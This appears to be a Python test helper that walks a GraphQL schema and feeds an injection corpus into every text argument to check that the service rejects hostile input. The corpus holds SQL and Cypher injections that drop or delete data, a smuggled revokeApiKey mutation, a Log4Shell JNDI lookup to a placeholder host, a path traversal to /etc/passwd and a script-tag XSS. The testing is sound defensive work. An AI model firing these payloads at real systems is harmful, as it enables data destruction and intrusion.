"""An injection corpus, and every text argument of the served schema to send it through.

Requests are built from the schema itself, so a field added later is covered too: each root
field with valid values for its required arguments, and one String or ID argument (or a string
field of an input object argument) holding the hostile value.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from graphql import (
    GraphQLEnumType,
    GraphQLField,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLObjectType,
    GraphQLSchema,
    get_named_type,
    is_non_null_type,
)

HUGE = "1" + "0" * 5000

# Text a client might send: injections into the stores' and GraphQL's languages, and text no
# store can hold or a person cannot see. JSON escapes (\ud800) reach the hub as written.
INJECTIONS = [
    "' OR '1'='1'; DROP TABLE golden_records; --",
    '") MATCH (n) DETACH DELETE n //',
    "x' }) WITH 1 AS x CALL db.labels() YIELD label RETURN label //",
    "{ __schema { types { name } } }",
    '"; mutation { revokeApiKey(prefix: "x") { prefix } } #',
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
]
UNSTORABLE = ["Bad \ud800 GmbH", "lone \udfff", "nul\x00byte", "zero\u200bwidth", "rtl\u202eevil"]
LONG = "A" * 10_000

_SAMPLE_SCALARS: dict[str, Any] = {
    "String": "x",
    "ID": "x",
    "Int": 1,
    "Float": 0.5,
    "Boolean": False,
    "JSON": {"name": "Hostile Probe Ltd"},
    "DateTime": "2024-01-01T00:00:00+00:00",
    "ObservedAt": "2024-01-01T00:00:00+00:00",
}


@dataclass(frozen=True)
class TextInput:
    """One root field with its arguments as variables, and where the hostile text goes."""

    operation: str  # "query" or "mutation"
    field: str
    document: str
    variables: dict[str, Any]
    path: tuple[str | int, ...]  # into `variables`

    def with_text(self, text: str) -> dict[str, Any]:
        variables = _copy(self.variables)
        target: Any = variables
        for step in self.path[:-1]:
            target = target[step]
        target[self.path[-1]] = text
        return variables


def text_inputs(schema: GraphQLSchema) -> Iterator[TextInput]:
    for operation, root in (("query", schema.query_type), ("mutation", schema.mutation_type)):
        assert root is not None
        for name, field in root.fields.items():
            variables = {arg: _sample(a.type) for arg, a in field.args.items()}
            document = _document(operation, name, field)
            for arg, definition in field.args.items():
                for path in _text_paths(definition.type, (arg,)):
                    yield TextInput(operation, name, document, variables, path)


def _document(operation: str, name: str, field: GraphQLField) -> str:
    declared = ", ".join(f"${arg}: {a.type}" for arg, a in field.args.items())
    passed = ", ".join(f"{arg}: ${arg}" for arg in field.args)
    selection = (
        " { __typename }" if isinstance(get_named_type(field.type), GraphQLObjectType) else ""
    )
    arguments = f"({passed})" if passed else ""
    head = f"{operation} Probe({declared})" if declared else f"{operation} Probe"
    return f"{head} {{ {name}{arguments}{selection} }}"


def _sample(kind: GraphQLInputType) -> Any:
    if isinstance(kind, GraphQLNonNull):
        return _sample(kind.of_type)
    if isinstance(kind, GraphQLList):
        return [_sample(kind.of_type)]
    if isinstance(kind, GraphQLEnumType):
        return next(iter(kind.values))
    if isinstance(kind, GraphQLInputObjectType):
        return {
            name: _sample(f.type) for name, f in kind.fields.items() if is_non_null_type(f.type)
        }
    return _SAMPLE_SCALARS[kind.name]


def _text_paths(
    kind: GraphQLInputType, path: tuple[str | int, ...]
) -> Iterator[tuple[str | int, ...]]:
    if isinstance(kind, GraphQLNonNull):
        yield from _text_paths(kind.of_type, path)
    elif isinstance(kind, GraphQLList):
        yield from _text_paths(kind.of_type, (*path, 0))
    elif isinstance(kind, GraphQLInputObjectType):
        for name, f in kind.fields.items():
            yield from _text_paths(f.type, (*path, name))
    elif getattr(kind, "name", None) in {"String", "ID"}:
        yield path


def _copy(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: _copy(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_copy(v) for v in value]
    return value
